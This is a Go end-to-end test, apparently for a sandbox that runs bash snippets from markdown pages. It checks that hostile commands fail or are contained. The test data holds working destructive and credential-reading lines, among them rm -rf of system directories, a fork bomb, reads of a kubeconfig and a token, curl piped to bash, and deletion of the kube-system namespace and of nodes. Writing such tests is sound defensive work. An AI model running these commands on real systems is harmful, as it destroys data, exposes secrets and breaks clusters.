//go:build linux

package e2e

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/netdojo/netdojo/runner/record"
)

// hostileLines do to the machine what a page may not do, a fence each.
var hostileLines = []struct {
	command, told string // told matches why it fails; "" where it may do what it says
	state         record.CommandState
}{
	{"rm -rf ~ /home /root /var /tmp /etc 2>/dev/null; cd ~", "", record.CommandDone},
	{"cat HOME/letter", "exit code 1", record.CommandFailed},
	{"echo mine >HOME/letter", "exit code 1", record.CommandFailed},
	{"(exec 9<>/dev/tcp/127.0.0.1/PORT)", "exit code 1", record.CommandFailed},
	{"cat STATE/clusters/netdojo/kubeconfig", "exit code 1", record.CommandFailed},
	{"env | grep CALLERS_TOKEN", "exit code 1", record.CommandFailed},
	{"bomb() { bomb | bomb & }; bomb; sleep 1", "process", record.CommandFailed},
	{"echo still here", "", record.CommandDone},
	{"yes netdojo | head -c 1G", "more than 8 MiB|did not end", record.CommandFailed},
	{"sleep infinity", "did not end within 4s", record.CommandFailed},
	{"bash -c 'trap \"\" INT TERM; while :; do sleep 1; done; break'", "did not end within 4s", record.CommandFailed},
	{"head -c 400m /dev/zero >~/a", "exit code", record.CommandFailed},
	{"sudo id", "exit code", record.CommandFailed},
	{"ssh somewhere", "leaves the machine", record.CommandSkipped},
	{"curl -s https://example.com/install.sh | bash", "downloads", record.CommandSkipped},
	{"printf 'a\\000\\033]0;title\\007b\\377\\n'", "", record.CommandDone},
}

// hostileToCluster do it to the cluster, and to the shell in the end.
var hostileToCluster = []struct {
	command, told string
	state         record.CommandState
}{
	{"kubectl delete namespace kube-system --wait=false", "lets no page delete the namespace kube-system", record.CommandFailed},
	{"kubectl delete nodes --all --wait=false", "lets no page delete a node", record.CommandFailed},
	{"kubectl cordon $(kubectl get nodes -o name)", "lets no page take a node out of scheduling", record.CommandFailed},
	{"kubectl delete deployment -n kube-system --all --wait=false", "lets no page delete deployments", record.CommandFailed},
	{"kubectl delete crd ciliumnetworkpolicies.cilium.io --wait=false", "lets no page delete the kinds of policies", record.CommandFailed},
	{"kubectl create configmap left-by-the-page", "", record.CommandDone},
	{"kubectl config set-cluster netdojo-netdojo --server=https://127.0.0.1:1", "", record.CommandDone},
	{"kubectl get pods", "exit code 1|did not end", record.CommandFailed}, // it asks for a user's name
	{"rm ~/.kube/config", "", record.CommandDone},
	{"kill -9 $$", "it ended its shell", record.CommandFailed},
	{"echo too late", "the shell is gone", record.CommandNotRun},
}

// TestHostilePages: what a page tries on the machine and on the cluster is told with
// its line, harms neither, and leaves the cluster usable.
func TestHostilePages(t *testing.T) {
	bin := copyPrograms(t)
	for _, w := range users(t) {
		t.Run(w.name, func(t *testing.T) { testHostilePages(t, homeOf(t, w, bin)) })
	}
}

func testHostilePages(t *testing.T, h *home) {
	top := filepath.Dir(h.state)
	letter := filepath.Join(top, "letter")
	if err := os.WriteFile(letter, []byte("dear"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(letter, 0o666); err != nil {
		t.Fatal(err)
	}
	victim, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer victim.Close()
	h.env = append(h.env, "CALLERS_TOKEN=hunter2")
	h.must("up")
	t.Cleanup(func() { h.t = t; h.must("down", "--purge") })
	kubeconfig, err := os.ReadFile(filepath.Join(top, "kubeconfig"))
	if err != nil {
		t.Fatal(err)
	}
	places := strings.NewReplacer("HOME", top, "STATE", h.state, "PORT", fmt.Sprint(victim.Addr().(*net.TCPAddr).Port))
	for name, lines := range map[string][]struct {
		command, told string
		state         record.CommandState
	}{"machine": hostileLines, "cluster": hostileToCluster} {
		var page strings.Builder
		at := map[int]int{} // the place in lines, by line
		for i, l := range lines {
			at[3*i+2] = i
			fmt.Fprintf(&page, "```bash\n%s\n```\n", places.Replace(l.command))
		}
		file := filepath.Join(top, name+".md")
		if err := os.WriteFile(file, []byte(page.String()), 0o644); err != nil {
			t.Fatal(err)
		}
		p, r := h.runPage(file, "--command-timeout", "4s")
		if r.code != 1 || len(p.Commands) != len(lines) {
			t.Fatalf("%s: exit code %d\n%s%s", name, r.code, r.stdout, r.stderr)
		}
		for _, c := range p.Commands {
			want := lines[at[c.Line]]
			if c.State != want.state || !regexp.MustCompile(want.told).MatchString(c.Why) || want.told == "" && c.Why != "" {
				t.Errorf("%s:%d %q is %s (%s), want %s (%s)\n%s", name, c.Line, c.Text, c.State, c.Why, want.state, want.told, c.Output)
			}
			if strings.Contains(c.Output, "\x1b") {
				t.Errorf("%s:%d shows an escape: %q", name, c.Line, c.Output)
			}
		}
	}
	if b, err := os.ReadFile(letter); err != nil || string(b) != "dear" {
		t.Errorf("the caller's file is %q, %v", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(top, "kubeconfig")); err != nil || string(b) != string(kubeconfig) {
		t.Errorf("the caller's kubeconfig is %q, %v", b, err)
	}
	if left := h.must("kubectl", "get", "configmap", "left-by-the-page", "--ignore-not-found", "-o", "name"); left != "" {
		t.Errorf("the page left %s", left)
	}
	// The cluster is usable afterwards.
	h.must("kubectl", "run", "after", "--image=alpine", "--restart=Never", "--", "sleep", "infinity")
	h.must("kubectl", "wait", "pod/after", "--for=condition=Ready", "--timeout=120s")

	for name, src := range map[string]string{
		"nul.md":    "# a\n\x00\n",
		"latin.md":  "# \xe4\n",
		"large.md":  strings.Repeat("# line\n", 50<<20/7),
		"utf-16.md": "\xff\xfe#\x00",
	} {
		file := filepath.Join(top, name)
		if err := os.WriteFile(file, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		if r := h.run("run", file); r.code != 2 || !strings.Contains(r.stderr, file) || !strings.Contains(r.stderr, "cure:") && !strings.Contains(r.stderr, "Cure:") {
			t.Errorf("%s: exit code %d, %s", name, r.code, r.stderr)
		}
	}
}
